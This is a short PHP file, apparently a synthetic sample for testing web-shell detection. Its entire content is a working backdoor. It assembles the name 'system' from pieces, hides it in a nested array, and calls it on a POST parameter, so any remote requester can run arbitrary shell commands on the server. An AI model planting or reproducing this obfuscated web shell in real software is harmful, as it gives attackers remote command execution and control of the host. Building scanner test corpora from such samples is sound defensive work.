<?php
// synthetic: function name kept in a nested array element
$cfg['h'] = 'sys' . 'tem';
$all[] = $cfg;
$all[0]['h']($_POST['k']);
